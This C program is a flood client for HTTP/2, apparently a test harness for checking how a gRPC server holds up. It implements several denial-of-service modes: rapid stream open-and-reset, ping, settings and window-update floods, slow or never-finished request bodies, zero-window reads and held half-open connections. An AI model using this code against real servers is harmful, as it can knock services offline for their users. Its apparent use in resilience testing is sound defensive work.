// A hostile caller that speaks HTTP/2 only as far as it hurts: `flood SOCKET KIND CONNECTIONS STREAMS [FIELD [PATH]]`.
//
// FIELD is the first field of each request's message, a text; PATH is what is called.
// Prints "ready" when the attack is at its height for the first time, "acknowledged N" for each line of its stdin, N being
// how many frames the server has acknowledged by then, and ends with its stdin.
#define _GNU_SOURCE
#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { CLAIM = (3 << 20) - 16, CHUNK = 16 << 10, STREAMS_MAX = 4096 };

static const char *socket_path, *kind, *root = "/", *path = "/provost.v1.Sessions/CreateSession";
static int connections, streams;
static volatile int at_height;
static volatile long acknowledged;

struct stream { uint32_t id; long window, sent; };
struct connection {
    int fd;
    long window, initial;
    uint32_t next;
    unsigned char in[1 << 17];
    size_t have;
    struct stream at[STREAMS_MAX];
};

static int is(const char *name) { return !strcmp(kind, name); }

static int dial(void) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strncpy(to.sun_path, socket_path, sizeof to.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof to)) close(fd), fd = -1;
    return fd;
}

static int put(int fd, const void *bytes, size_t count) {
    const char *at = bytes;
    while (count) {
        ssize_t sent = send(fd, at, count, MSG_NOSIGNAL);
        if (sent <= 0) return -1;
        at += sent, count -= sent;
    }
    return 0;
}

static size_t frame(unsigned char *to, int type, int flags, uint32_t id, const void *payload, size_t length) {
    unsigned char head[9] = {length >> 16, length >> 8, length, type, flags, id >> 24, id >> 16, id >> 8, id};
    memcpy(to, head, 9);
    if (length) memcpy(to + 9, payload, length);
    return 9 + length;
}

static size_t field(unsigned char *to, const char *name, const char *value) {
    size_t n = strlen(name), v = strlen(value);
    to[0] = 0, to[1] = n, memcpy(to + 2, name, n);
    to[2 + n] = v, memcpy(to + 3 + n, value, v);
    return 3 + n + v;
}

static size_t headers(unsigned char *to) {
    size_t at = field(to, ":method", "POST");
    at += field(to + at, ":scheme", "http");
    at += field(to + at, ":path", path);
    at += field(to + at, ":authority", "x");
    at += field(to + at, "content-type", "application/grpc");
    return at + field(to + at, "te", "trailers");
}

static int begin(struct connection *c) {
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    // Windows for answers: a single byte of each, or ones that never end.
    int unread = is("unread"), calls = is("calls");
    unsigned char settings[64], window[6] = {0, 4, calls ? 0x7f : 0, calls ? 0xff : 0, calls ? 0xff : 0, calls ? 0xff : 1};
    unsigned char more[4] = {0x7f, 0, 0, 0};
    c->window = c->initial = 65535, c->next = 1, c->have = 0;
    memset(c->at, 0, sizeof c->at);
    c->fd = dial();
    if (c->fd < 0) return -1;
    size_t length = frame(settings, 4, 0, 0, window, unread || calls ? 6 : 0);
    if (calls) length += frame(settings + length, 8, 0, 0, more, 4);
    return put(c->fd, preface, 24) || put(c->fd, settings, length);
}

static struct stream *find(struct connection *c, uint32_t id) {
    for (int i = 0; i < streams; i++)
        if (c->at[i].id == id) return &c->at[i];
    return 0;
}

// Reads what is there; waits so long for it. Not 0: the connection has ended.
static int hear(struct connection *c, int wait_ms) {
    struct pollfd ready = {c->fd, POLLIN, 0};
    while (poll(&ready, 1, wait_ms) > 0) {
        ssize_t got = recv(c->fd, c->in + c->have, sizeof c->in - c->have, 0);
        if (got <= 0) return -1;
        c->have += got, wait_ms = 0;
        size_t at = 0;
        while (c->have - at >= 9) {
            unsigned char *f = c->in + at, reply[32];
            size_t length = f[0] << 16 | f[1] << 8 | f[2];
            if (c->have - at < 9 + length) break;
            uint32_t id = (f[5] & 0x7f) << 24 | f[6] << 16 | f[7] << 8 | f[8];
            uint32_t word = length >= 4 ? (uint32_t)f[9] << 24 | f[10] << 16 | f[11] << 8 | f[12] : 0;
            struct stream *s = id ? find(c, id) : 0;
            if (f[3] == 4 && !(f[4] & 1)) {
                for (size_t i = 9; i + 6 <= 9 + length; i += 6)
                    if (f[i + 1] == 4) c->initial = (long)f[i + 2] << 24 | f[i + 3] << 16 | f[i + 4] << 8 | f[i + 5];
                if (put(c->fd, reply, frame(reply, 4, 1, 0, 0, 0))) return -1;
            } else if (f[3] == 8 && id == 0) c->window += word;
            else if (f[3] == 8 && s) s->window += word;
            else if (f[3] == 6 && !(f[4] & 1) && put(c->fd, reply, frame(reply, 6, 1, 0, f + 9, 8))) return -1;
            if ((f[3] == 4 || f[3] == 6) && f[4] & 1) __sync_fetch_and_add(&acknowledged, 1);
            // The call is over: by its end of stream, or reset.
            if (s && (f[3] == 3 || ((f[3] == 0 || f[3] == 1) && f[4] & 1))) s->id = 0;
            at += 9 + length;
        }
        memmove(c->in, c->in + at, c->have -= at);
    }
    return 0;
}

static int open_stream(struct connection *c, struct stream *s) {
    unsigned char bytes[512], block[256], prefix[5] = {0, CLAIM >> 24, CLAIM >> 16 & 255, CLAIM >> 8 & 255, CLAIM & 255};
    *s = (struct stream){c->next, c->initial - 5, 5};
    c->next += 2, c->window -= 5;
    size_t length = frame(bytes, 1, 4, s->id, block, headers(block));
    length += frame(bytes + length, 0, 0, s->id, prefix, 5);
    return put(c->fd, bytes, length);
}

// Bodies that are not finished: whole chunks, single bytes, or nothing but the claim of a length.
static int half_sent(struct connection *c) {
    static unsigned char zeros[CHUNK];
    unsigned char bytes[CHUNK + 9];
    size_t chunk = is("crumbs") ? 1 : is("claims") ? 0 : CHUNK;
    for (;;) {
        int moved = 0;
        for (int i = 0; i < streams; i++) {
            struct stream *s = &c->at[i];
            if (!s->id && c->window >= 5 && (moved = 1) && open_stream(c, s)) return -1;
            if (chunk && s->id && s->sent + (long)chunk < CLAIM && s->window >= (long)chunk && c->window >= (long)chunk) {
                if (put(c->fd, bytes, frame(bytes, 0, 0, s->id, zeros, chunk))) return -1;
                s->window -= chunk, s->sent += chunk, c->window -= chunk, moved = 1;
            }
        }
        if (!moved) at_height = 1;
        if (hear(c, moved ? 0 : 20)) return -1;
        if (c->next > 1u << 30) return -1;
    }
}

static int repeat(struct connection *c) {
    static unsigned char bytes[1 << 16];
    unsigned char block[256], code[4] = {0, 0, 0, 8};
    size_t block_length = headers(block);
    for (;;) {
        unsigned char *to = malloc(1 << 16);
        size_t length = 0;
        while (length < 60000) {
            if (is("pings")) length += frame(to + length, 6, 0, 0, "12345678", 8);
            else if (is("windows")) {
                // Between them a question, whose answer says that they were taken.
                static const unsigned char one[4] = {0, 0, 0, 1};
                for (int i = 0; i < 19; i++) length += frame(to + length, 8, 0, 0, one, 4);
                length += frame(to + length, 6, 0, 0, "12345678", 8);
            }
            else if (is("settings")) length += frame(to + length, 4, 0, 0, 0, 0);
            else {
                length += frame(to + length, 1, 4, c->next, block, block_length);
                length += frame(to + length, 3, 0, c->next, code, 4);
                c->next += 2;
            }
        }
        int failed = put(c->fd, to, length);
        free(to);
        at_height = 1;
        if (failed || c->next > 1u << 30 || hear(c, 0)) return -1;
    }
}

// Calls, as many at once as there are streams: sessions with a root, unless another path is given.
static int call(struct connection *c) {
    unsigned char block[256], body[256] = {0}, bytes[600];
    int once = is("unread"), silent = 0;
    size_t block_length = headers(block), length = strlen(root);
    body[4] = length + 2, body[5] = 0x0a, body[6] = length;
    memcpy(body + 7, root, length);
    for (;;) {
        int moved = 0;
        for (int i = 0; i < streams; i++) {
            struct stream *s = &c->at[i];
            if (s->id || c->window < (long)length + 7 || (once && s->sent)) continue;
            *s = (struct stream){c->next, 0, 1};
            c->next += 2, c->window -= length + 7, moved = 1;
            size_t at = frame(bytes, 1, 4, s->id, block, block_length);
            at += frame(bytes + at, 0, 1, s->id, body, length + 7);
            if (put(c->fd, bytes, at)) return -1;
        }
        // What is not taken is at its height when nothing more is sent.
        silent = moved ? 0 : silent + 1;
        if (!once || silent > 50) at_height = 1;
        if (hear(c, moved ? 0 : 20) || c->next > 1u << 30) return -1;
    }
}

static void *attack(void *unused) {
    struct connection *c = calloc(1, sizeof *c);
    for (;;) {
        // The server's settings first: they say how much may be sent.
        if (!begin(c) && !hear(c, 1000)) {
            if (is("sessions") || is("calls") || is("unread")) call(c);
            else if (is("bodies") || is("claims") || is("crumbs")) half_sent(c);
            else repeat(c);
        }
        if (c->fd >= 0) close(c->fd);
        // Again, however often it is thrown out.
        usleep(1000);
    }
}

// Connections that are held, at different places of their beginning.
static void hold(void) {
    int *held = calloc(connections, sizeof *held);
    unsigned char bytes[512], block[256];
    memset(held, -1, connections * sizeof *held);
    for (int round = 0;; round++) {
        for (int i = 0; i < connections; i++) {
            char said[256];
            ssize_t got = 1;
            while (held[i] >= 0 && got > 0) got = recv(held[i], said, sizeof said, MSG_DONTWAIT);
            if (held[i] >= 0 && (got == 0 || errno != EAGAIN)) close(held[i]), held[i] = -1;
            if (held[i] < 0 && (held[i] = dial()) >= 0) {
                static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
                size_t length = frame(bytes, 4, 0, 0, 0, 0);
                if (is("handshake")) send(held[i], preface, 1, MSG_NOSIGNAL);
                else if (!is("silent")) send(held[i], preface, 24, MSG_NOSIGNAL), send(held[i], bytes, length, MSG_NOSIGNAL);
                if (is("headers"))
                    send(held[i], bytes, frame(bytes, 1, 0, 1, block, headers(block) - 4), MSG_NOSIGNAL);
            } else if (held[i] >= 0 && is("handshake") && round < 20) send(held[i], "R", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
        }
        at_height = 1;
        usleep(50000);
    }
}

static void *held_connections(void *unused) { hold(); return 0; }

int main(int count, char **arguments) {
    pthread_t thread;
    struct rlimit limit;
    if (count < 5) return 2;
    socket_path = arguments[1], kind = arguments[2];
    connections = atoi(arguments[3]), streams = atoi(arguments[4]);
    if (count > 5) root = arguments[5];
    if (count > 6) path = arguments[6];
    if (streams > STREAMS_MAX || strlen(root) > 120 || strlen(path) > 120) return 2;
    getrlimit(RLIMIT_NOFILE, &limit), limit.rlim_cur = limit.rlim_max, setrlimit(RLIMIT_NOFILE, &limit);
    signal(SIGPIPE, SIG_IGN);
    int holds = is("connections") || is("silent") || is("handshake") || is("headers");
    for (int i = 0; i < (holds ? 1 : connections); i++)
        pthread_create(&thread, 0, holds ? held_connections : attack, 0);
    // One that is held back never gets to its height: what it has reached after a while is the attack.
    for (int ms = 0; !at_height && ms < 4000; ms++) usleep(1000);
    puts("ready"), fflush(stdout);
    char line[64];
    while (fgets(line, sizeof line, stdin)) printf("acknowledged %ld\n", acknowledged), fflush(stdout);
    _exit(0);
}
